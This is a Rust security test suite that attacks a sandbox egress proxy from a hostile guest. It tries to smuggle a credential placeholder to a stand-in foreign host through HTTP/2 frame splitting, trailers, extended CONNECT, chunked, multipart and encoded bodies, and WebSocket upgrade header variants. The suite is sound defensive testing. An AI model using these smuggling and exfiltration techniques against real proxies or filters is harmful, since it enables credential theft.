//! Second attack pass on the redesigned proxy (issue 30), from a hostile guest inside a real
//! container sandbox: the fixes of the first pass from angles it did not try.
//!
//! - HTTP/2 with the guest's own frames (`attack2/h2.py`): a placeholder past the body's
//!   prefix split across DATA frames or one byte a frame, in trailers, an RFC 8441 extended
//!   CONNECT (WebSocket over HTTP/2) carrying a placeholder, `:authority` ports against the
//!   dialled port, `:path` in absolute form, connection-specific headers.
//! - HTTP/1.1 (`attack/guest.py`): a placeholder past the prefix in chunks of one byte, in a
//!   multipart part, encoded (gzip, percent, base64); WebSocket handshakes carrying a
//!   placeholder with every `Connection` / `Upgrade` spelling; the dialled port on plain HTTP.
//!
//! Paths say what must become of a request: `/deny-…` must never reach the outside world,
//! `/late-…` is refused (its head may reach the outside world before the placeholder streams
//! by: the known finding the first pass left open), `/any-…` may reach it (its fate is
//! printed), `/ok-…` must. No real token ever reaches the guest.

use serde_json::{Value, json};
use svc_tests::{
    require_root,
    world::{EXAMPLE_TOKEN, World},
};

/// The HTTP/1.1 client of the first pass (raw bytes over TLS or TCP).
const GUEST_PY: &str = include_str!("attack/guest.py");
/// The raw HTTP/2 client.
const H2_PY: &str = include_str!("attack2/h2.py");

const ALLOWED: &str = "allowed.example.test";
/// An allowed name with its own server and address, the placeholder's foreign host.
const OTHER: (&str, &str) = ("other.attack.test", "192.0.2.40");

/// Write `bytes` to `path` in sandbox `name`.
fn put(w: &World, name: &str, path: &str, bytes: &[u8]) {
    let hex: String = bytes.iter().map(|b| format!("{b:02x}")).collect();
    let script = format!(
        "python3 -c 'import sys; open(sys.argv[1], \"wb\").write(bytes.fromhex(sys.argv[2]))' {path} {hex}"
    );
    let (code, _, err) = w.sh(name, &script);
    assert_eq!(code, 0, "writing {path} in {name}: {err}");
}

/// A sandbox allowing allowed.example.test (its secret) and other.attack.test, both clients
/// installed; its placeholder.
fn hostile_sandbox(w: &World, name: &str) -> String {
    let args = [
        "sandbox",
        "create",
        "--allow-host",
        ALLOWED,
        "--allow-host",
        OTHER.0,
        "--secret",
        "SVC_CRED_ALLOWED_EXAMPLE_TEST_TOKEN@env:EXAMPLE",
        name,
    ];
    let out = w.svc_env(&args, &[("EXAMPLE", EXAMPLE_TOKEN)]);
    assert!(out.status.success(), "{out:?}\n{}", w.svcd_log());
    put(w, name, "/tmp/guest.py", GUEST_PY.as_bytes());
    put(w, name, "/tmp/h2.py", H2_PY.as_bytes());
    let (_, p, _) = w.sh(name, "printf %s \"$SVC_CRED_ALLOWED_EXAMPLE_TEST_TOKEN\"");
    assert_eq!(p.len(), 64, "{p}");
    p
}

/// Run `cases` with `client` (`guest.py` or `h2.py`) in sandbox `name`: one result a case.
fn attack(w: &World, name: &str, client: &str, cases: &[Value]) -> Vec<Value> {
    put(
        w,
        name,
        "/tmp/cases.json",
        Value::from(cases).to_string().as_bytes(),
    );
    let (code, out, err) = w.sh(name, &format!("python3 /tmp/{client} /tmp/cases.json"));
    assert_eq!(code, 0, "{client} failed: {err}\n{out}");
    out.lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

/// What got through: a real token shown to the guest, a `/deny-` path in the outside world, a
/// `/late-` or `/deny-` case with no refusal record naming a credential leak when it must
/// have one (`leak_paths`).
fn judge(w: &World, results: &[Value], leak_paths: &[&str]) -> Vec<String> {
    let mut wrong = Vec::new();
    for r in results {
        let shown = r.to_string();
        eprintln!("{:40} {}", r["case"].as_str().unwrap_or("?"), short(&shown));
        if shown.contains(EXAMPLE_TOKEN) {
            wrong.push(format!("the real token reached the guest: {shown}"));
        }
    }
    let received = w.received();
    for r in received.iter().filter(|r| r["kind"] == "http") {
        let path = r["path"].as_str().unwrap_or("");
        eprintln!(
            "outside world: {} {} {} credential={}",
            r["host"], r["method"], path, r["credential"]
        );
        if path.starts_with("/deny") {
            wrong.push(format!("a refused request reached the outside world: {r}"));
        }
    }
    let audit = w.audit();
    for r in audit.iter().filter(|r| r["decision"] == "deny") {
        eprintln!(
            "audit: {} {} {} {}",
            r["status"], r["path"], r["rule"], r["reason"]
        );
    }
    for path in leak_paths {
        if !audit.iter().any(|r| {
            r["decision"] == "deny"
                && r["path"] == *path
                && r["rule"]
                    .as_str()
                    .is_some_and(|x| x.contains("credential") || x.contains("upgrade"))
        }) {
            wrong.push(format!("{path}: no refusal naming the placeholder"));
        }
    }
    wrong
}

/// `s`, cut for the log.
fn short(s: &str) -> String {
    s.chars().take(400).collect()
}

/// An HTTP/2 case to `dial` (SNI the same) with `headers` (pseudo-headers first), `data` (one
/// DATA frame each) and `trailers`.
fn h2(
    case: &str,
    dial: &str,
    headers: &[(&str, &str)],
    data: &[String],
    trailers: &[(&str, &str)],
) -> Value {
    let pairs =
        |h: &[(&str, &str)]| -> Vec<Value> { h.iter().map(|(n, v)| json!([n, v])).collect() };
    let mut c = json!({"case": case, "dial": dial, "headers": pairs(headers), "data": data});
    if !trailers.is_empty() {
        c["trailers"] = json!(pairs(trailers));
    }
    c
}

/// The pseudo-headers of a request.
fn pseudo<'a>(method: &'a str, authority: &'a str, path: &'a str) -> Vec<(&'a str, &'a str)> {
    vec![
        (":method", method),
        (":scheme", "https"),
        (":authority", authority),
        (":path", path),
    ]
}

/// A placeholder past the body's prefix (64 KiB of padding first).
const PAD: &str = "{{PAD:70000}}";

#[test]
fn http2_frames_trailers_and_extended_connect_carry_no_placeholder_out() {
    require_root();
    let w = World::start_with_dns(&[OTHER], &[]);
    let p = hostile_sandbox(&w, "atkh2");
    let bearer = format!("Bearer {p}");
    let (a, b) = p.split_at(30);
    let post = |path: &'static str| pseudo("POST", OTHER.0, path);
    let mut one_byte: Vec<String> = vec![PAD.into()];
    one_byte.extend(p.chars().map(String::from));
    let mut ws = vec![
        (":method", "CONNECT"),
        (":protocol", "websocket"),
        (":scheme", "https"),
        (":authority", ALLOWED),
        (":path", "/deny-h2-ext-connect"),
        ("sec-websocket-version", "13"),
    ];
    let ws_plain = ws.clone();
    ws.push(("authorization", bearer.as_str()));
    let mut conn_hdr = pseudo("GET", ALLOWED, "/any-h2-connection-header");
    conn_hdr.extend([("connection", "upgrade"), ("upgrade", "websocket")]);
    let mut host_port = pseudo("GET", ALLOWED, "/any-h2-host-8443");
    host_port.push(("host", "allowed.example.test:8443"));
    let mut ws_plain = ws_plain;
    ws_plain[4] = (":path", "/any-h2-ext-connect-plain");
    let cases = vec![
        h2(
            "h2_ok",
            ALLOWED,
            &pseudo("GET", ALLOWED, "/ok-h2"),
            &[],
            &[],
        ),
        h2(
            "h2_late_split_frames",
            OTHER.0,
            &post("/late-h2-split"),
            &[format!("{PAD}{a}"), format!("{b}&z")],
            &[],
        ),
        h2(
            "h2_late_one_byte_frames",
            OTHER.0,
            &post("/late-h2-bytes"),
            &one_byte,
            &[],
        ),
        h2(
            "h2_trailer_to_other",
            OTHER.0,
            &post("/late-h2-trailer"),
            &["x".into()],
            &[("x-token", p.as_str())],
        ),
        h2(
            "h2_trailer_authorization_own_host",
            ALLOWED,
            &pseudo("POST", ALLOWED, "/late-h2-trailer-own"),
            &["x".into()],
            &[("authorization", bearer.as_str())],
        ),
        h2("h2_extended_connect_bearer", ALLOWED, &ws, &[], &[]),
        h2("h2_extended_connect_plain", ALLOWED, &ws_plain, &[], &[]),
        h2(
            "h2_authority_443",
            ALLOWED,
            &pseudo("GET", "allowed.example.test:443", "/ok-h2-443"),
            &[],
            &[],
        ),
        h2(
            "h2_authority_8443_dialled_443",
            ALLOWED,
            &pseudo("GET", "allowed.example.test:8443", "/deny-h2-8443"),
            &[],
            &[],
        ),
        h2("h2_host_header_other_port", ALLOWED, &host_port, &[], &[]),
        h2(
            "h2_path_absolute_other",
            ALLOWED,
            &pseudo("GET", ALLOWED, "https://other.attack.test/deny-h2-abs"),
            &[],
            &[],
        ),
        h2("h2_connection_header", ALLOWED, &conn_hdr, &[], &[]),
    ];
    let results = attack(&w, "atkh2", "h2.py", &cases);
    assert_eq!(results.len(), cases.len(), "{results:#?}");
    let mut wrong = judge(
        &w,
        &results,
        &[
            "/late-h2-split",
            "/late-h2-bytes",
            "/late-h2-trailer",
            "/late-h2-trailer-own",
        ],
    );
    let received = w.received();
    for ok in ["/ok-h2", "/ok-h2-443"] {
        if !received.iter().any(|r| r["path"] == ok) {
            wrong.push(format!("{ok} did not reach the outside world"));
        }
    }
    w.destroy_checked("atkh2");
    assert!(
        wrong.is_empty(),
        "{} got through:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

/// An HTTP/1.1 head (with `Connection: close`).
fn head(method: &str, target: &str, host: &str, extra: &str) -> String {
    format!("{method} {target} HTTP/1.1\r\nHost: {host}\r\n{extra}Connection: close\r\n\r\n")
}

/// An HTTP/1.1 case over TLS to `dial`, or plain HTTP when `port` is 80.
fn h1(case: &str, dial: &str, port: u16, send: &[String]) -> Value {
    json!({"case": case, "dial": dial, "tls": port != 80, "port": port, "send": send, "wait": 3})
}

/// A chunked body: each of `chunks` as one chunk, then the last chunk.
fn chunked(chunks: &[String]) -> String {
    let mut s: String = chunks
        .iter()
        .map(|c| format!("{:x}\r\n{c}\r\n", c.len()))
        .collect();
    s.push_str("0\r\n\r\n");
    s
}

/// `p` percent-encoded, every byte.
fn percent(p: &str) -> String {
    p.bytes().map(|b| format!("%{b:02X}")).collect()
}

#[test]
fn http1_bodies_and_upgrade_spellings_carry_no_placeholder_out() {
    require_root();
    let w = World::start_with_dns(&[OTHER], &[]);
    let p = hostile_sandbox(&w, "atkh1");
    let bearer = format!("Authorization: Bearer {p}\r\n");
    let te = "Transfer-Encoding: chunked\r\n";
    // 70000 bytes of padding (written out by the guest's client), then the placeholder one
    // byte a chunk.
    let one_byte = format!("{:x}\r\n{PAD}\r\n", 70_000)
        + &chunked(&p.chars().map(String::from).collect::<Vec<_>>());
    let ws = |path: &str, lines: &str| {
        h1(
            path,
            ALLOWED,
            443,
            &[format!(
                "GET {path} HTTP/1.1\r\nHost: {ALLOWED}\r\n{lines}Sec-WebSocket-Version: 13\r\n\
                 Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{bearer}\r\n"
            )],
        )
    };
    let boundary = "XyZ";
    let multipart = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"t.txt\"\r\n\
         Content-Type: text/plain\r\n\r\ntoken={p}\r\n--{boundary}--\r\n"
    );
    let form = |path: &str, ctype: &str, body: &str| {
        h1(
            path,
            OTHER.0,
            443,
            &[head(
                "POST",
                path,
                OTHER.0,
                &format!(
                    "Content-Type: {ctype}\r\nContent-Length: {}\r\n",
                    body.len()
                ),
            ) + body],
        )
    };
    let b64 = {
        use std::fmt::Write as _;
        // Base64 of the placeholder, written out by hand (no dependency).
        const ABC: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut out = String::new();
        for c in p.as_bytes().chunks(3) {
            let n = c
                .iter()
                .enumerate()
                .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
            for i in 0..4 {
                let _ = write!(
                    out,
                    "{}",
                    if i <= c.len() {
                        char::from(ABC[(n >> (18 - 6 * i) & 63) as usize])
                    } else {
                        '='
                    }
                );
            }
        }
        out
    };
    let cases = vec![
        h1(
            "h1_late_one_byte_chunks",
            OTHER.0,
            443,
            &[head("POST", "/late-h1-bytes", OTHER.0, te) + &one_byte],
        ),
        h1(
            "h1_late_chunk_extension",
            OTHER.0,
            443,
            &[head("POST", "/any-h1-chunk-ext", OTHER.0, te)
                + &format!("1;x={p}\r\na\r\n0\r\n\r\n")],
        ),
        form(
            "/deny-h1-multipart",
            &format!("multipart/form-data; boundary={boundary}"),
            &multipart,
        ),
        form(
            "/any-h1-percent",
            "application/x-www-form-urlencoded",
            &format!("t={}", percent(&p)),
        ),
        form("/any-h1-base64", "text/plain", &b64),
        ws(
            "/deny-ws-keepalive-upgrade",
            "Upgrade: websocket\r\nConnection: keep-alive, Upgrade\r\n",
        ),
        ws(
            "/deny-ws-lower",
            "upgrade: WebSocket\r\nconnection: UPGRADE\r\n",
        ),
        ws(
            "/deny-ws-two-connection-lines",
            "Upgrade: websocket\r\nConnection: keep-alive\r\nConnection: Upgrade\r\n",
        ),
        ws(
            "/deny-ws-two-upgrade-lines",
            "Upgrade: websocket\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n",
        ),
        ws(
            "/deny-ws-tab",
            "Upgrade:\twebsocket\t\r\nConnection:\tUpgrade\r\n",
        ),
        h1(
            "h1_bearer_no_upgrade_header_to_a_101_endpoint",
            ALLOWED,
            443,
            &[format!(
                "GET /ws-echo-headers HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade\r\n\
                 Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
                 {bearer}\r\n"
            )],
        ),
        h1(
            "h1_ws_placeholder_in_protocol",
            ALLOWED,
            443,
            &[format!(
                "GET /deny-ws-protocol HTTP/1.1\r\nHost: {ALLOWED}\r\nUpgrade: websocket\r\n\
                 Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: \
                 dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: {p}\r\n\r\n"
            )],
        ),
        h1(
            "plain_host_443_dialled_80",
            ALLOWED,
            80,
            &[head(
                "GET",
                "/deny-plain-443",
                "allowed.example.test:443",
                "",
            )],
        ),
        h1(
            "tls_host_80_dialled_443",
            ALLOWED,
            443,
            &[head("GET", "/deny-tls-80", "allowed.example.test:80", "")],
        ),
        h1(
            "tls_host_443_explicit",
            ALLOWED,
            443,
            &[head("GET", "/ok-tls-443", "allowed.example.test:443", "")],
        ),
        h1(
            "tls_absolute_form_8443",
            ALLOWED,
            443,
            &[head(
                "GET",
                "https://allowed.example.test:8443/any-abs-8443",
                ALLOWED,
                "",
            )],
        ),
    ];
    let results = attack(&w, "atkh1", "guest.py", &cases);
    assert_eq!(results.len(), cases.len(), "{results:#?}");
    let mut wrong = judge(
        &w,
        &results,
        &[
            "/late-h1-bytes",
            "/deny-h1-multipart",
            "/deny-ws-keepalive-upgrade",
            "/deny-ws-lower",
            "/deny-ws-two-connection-lines",
            "/deny-ws-two-upgrade-lines",
            "/deny-ws-protocol",
        ],
    );
    if !w.received().iter().any(|r| r["path"] == "/ok-tls-443") {
        wrong.push("/ok-tls-443 did not reach the outside world".into());
    }
    w.destroy_checked("atkh1");
    assert!(
        wrong.is_empty(),
        "{} got through:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}
